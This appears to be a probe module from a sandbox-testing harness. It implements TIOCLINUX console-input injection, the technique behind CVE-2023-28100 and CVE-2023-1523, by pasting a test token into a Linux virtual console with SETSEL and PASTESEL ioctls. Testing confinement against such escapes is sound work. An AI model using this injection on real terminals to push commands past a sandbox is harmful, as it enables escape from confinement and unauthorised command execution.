"""Select text on a virtual console and paste it into its input with TIOCLINUX.

Only a virtual console has it: on a pseudo-terminal the answer is ENOTTY, unconfined as well.
Source: CVE-2023-28100 (flatpak), CVE-2023-1523 (snapd); ioctl_console(2); jwilk/ttyjack.
"""

import ctypes
import os
import struct

import syscalls

TIOCLINUX = 0x541C
SETSEL, PASTESEL, WORDS = 2, 3, 1


def attempt(target):
    """Print the token, select it where it was printed, paste it."""
    if target.platform != "linux":
        raise NotImplementedError("TIOCLINUX is a request of Linux virtual consoles")
    target.step("write")
    os.write(0, b"\x1b[1;1H" + target.token.encode())
    # subcode, then struct tiocl_selection: start column and row, end column and row, mode
    choose = ctypes.create_string_buffer(struct.pack("=B5H", SETSEL, 1, 1, len(target.token), 1, WORDS))
    paste = ctypes.create_string_buffer(struct.pack("=B", PASTESEL))
    target.step("ioctl")
    syscalls.ioctl(0, TIOCLINUX, ctypes.byref(choose))
    syscalls.ioctl(0, TIOCLINUX, ctypes.byref(paste))
    return "pasted"
